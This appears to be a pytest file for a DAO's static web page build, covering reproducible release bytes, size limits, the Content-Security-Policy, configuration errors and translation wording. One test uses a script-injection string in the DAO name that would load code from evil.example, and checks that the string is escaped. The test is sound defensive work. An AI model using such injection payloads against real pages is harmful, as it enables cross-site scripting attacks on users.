"""The page as it is built: the same bytes each time, small, closed to others by its policy, in plain words."""

from __future__ import annotations

import gzip
import json
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

from assurance import ROOT
from assurance.harness.browser.page import build, configuration
from datadao.desk.static import Page
from datadao.messages.purposes import PURPOSES
from scripts.pack import pack_page, version

WEB = ROOT / "web"
ENGLISH: dict[str, str] = json.loads((WEB / "lang/en.json").read_text())
LARGEST = 300_000
"""Bytes, gzipped."""
JARGON = re.compile(r"\b(pools?|epochs?|versions?|accumulators?|splitter|merkle|nonce|timelock|delegat\w+)\b", re.I)
PREFIXES = (
    "state_",
    "lease_",
    "standing_",
    "sent_",
    "request_",
    "contract_",
    "does_",
    "argument_",
    "unreadable_",
    "purpose",
    "type_",
    "flaw_",
    "action_",
)
"""Of keys that are put together."""
ADDRESSES = {key: "0x" + f"{n:02x}" * 20 for n, key in enumerate(
    ("timelock", "token", "splitter", "governor", "leases", "registry"), 1)}  # fmt: skip
CONFIG = configuration(ADDRESSES, "0x" + "aa" * 20, node="https://node.example/key", desk="https://desk.example/")


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(tmp_path_factory.mktemp("page") / "site", CONFIG)


def contents(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def test_page__of_a_release__has_the_bytes_of_any_dao_and_states_their_hash(page: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(pack_page(tmp_path)) as archive:
        packed = {name: archive.read(name) for name in archive.namelist()}
        assert list(packed) == sorted(packed) and {entry.date_time[0] for entry in archive.infolist()} == {1980}
    mine = contents(page)
    assert packed.keys() == mine.keys()
    assert [name for name in mine if mine[name] != packed[name]] == ["index.html"]
    # The hash of the release is the one that the page of a DAO shows, and that its desk prints.
    stated = (tmp_path / f"datadao-page-{version()}.sha256").read_text().strip()
    assert stated == Page(page).sha256 and f'"build":"{stated}"' in mine["index.html"].decode()


def test_page__gzipped__is_small(page: Path) -> None:
    assert sum(len(gzip.compress(data)) for data in contents(page).values()) <= LARGEST


def test_page__asks_only_its_own_server_node_and_desk(page: Path) -> None:
    index = (page / "index.html").read_text()
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]+)"', index)
    directives = dict(part.split(" ", 1) for part in policy.split("; "))
    assert directives == {
        "default-src": "'none'",
        "script-src": "'self'",
        "style-src": "'self'",
        "img-src": "data:",
        "connect-src": "'self' https://node.example https://desk.example",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    # Relative, so that it works below any path; with hashes, so that no server can swap one file.
    assert re.findall(r'(?:src|href)="([^"]+)" integrity="sha384-', index) == re.findall(
        r'(?:src|href)="((?!data:)[^"]+)"', index
    )
    assert all(not name.startswith(("/", "http")) for name in re.findall(r'(?:src|href)="([^"]+)"', index))


def test_page__of_the_same_dao_by_a_hostile_name__has_the_same_bytes_and_the_name_as_text(
    page: Path, tmp_path: Path
) -> None:
    name = '</title></script><script src="https://evil.example/x.js">'
    again, mine = contents(build(tmp_path / "site", CONFIG | {"name": name})), contents(page)
    assert [name for name in again if again[name] != mine[name]] == ["index.html"]
    index = again["index.html"].decode()
    assert index.count("<script") == 2
    assert '<script src="https' not in index


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"chainId": "1"}, "chainId"),
        ({"node": "node.example"}, "node"),
        ({"contracts": {}}, "contracts"),
        ({"name": ""}, "name"),
        ({"desk": 5}, "desk"),
    ],
)
def test_page__of_a_wrong_configuration__is_refused_naming_what_and_value(
    tmp_path: Path, change: dict[str, object], named: str
) -> None:
    file = tmp_path / "dao.json"
    file.write_text(json.dumps(CONFIG | change))
    command = ["node", str(WEB / "build.mjs"), "--config", str(file), "--out", str(tmp_path / "site")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert done.stderr.startswith(f"page: {file}: {named} is {json.dumps((CONFIG | change)[named])}; expected")
    assert not (tmp_path / "site").exists()


# Words


def test_words__are_plain() -> None:
    assert [text for text in ENGLISH.values() if JARGON.search(text)] == []


def test_words__are_all_used_and_each_language_has_all_of_them() -> None:
    sources = "".join(path.read_text() for path in (WEB / "src").rglob("*.ts*"))
    assert [key for key in ENGLISH if f'"{key}"' not in sources and not key.startswith(PREFIXES)] == []
    for path in (WEB / "lang").glob("*.json"):
        words = json.loads(path.read_text())
        assert list(words) == list(ENGLISH), path.name
        for key, text in words.items():
            assert sorted(set(re.findall(r"\{\w+\}", text))) == sorted(set(re.findall(r"\{\w+\}", ENGLISH[key]))), key


def test_purposes__are_those_of_the_client() -> None:
    named = {purpose.bit: purpose.name for purpose in PURPOSES}
    assert {bit: ENGLISH[f"purpose{bit}"] for bit in named if bit < 2} == {bit: named[bit] for bit in named if bit < 2}
    assert named.keys() <= {int(key.removeprefix("purpose")) for key in ENGLISH if re.fullmatch(r"purpose\d+", key)}
